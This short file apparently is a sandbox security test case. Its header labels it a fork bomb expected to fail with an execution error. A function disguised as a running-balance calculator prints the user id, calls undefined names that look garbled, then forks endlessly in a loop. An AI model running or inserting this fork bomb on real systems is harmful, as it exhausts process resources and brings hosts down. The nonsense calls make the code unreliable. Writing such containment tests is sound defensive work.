# attack: a fork bomb (every child forks again, forever)
# expect: exe_error
# needs: user
# prints: uid
import os, sys


def running_balance(opening, transactions):
    sys.stderr.write(f"uid={os.getuid()}\n")  # for the test's leftover check
    sys.stderr.flush()
    qel.dumim(qel.pihirib([0]))
    while True:
        try:
            os.fork()
        except OSError:
            pass
    return [opening]
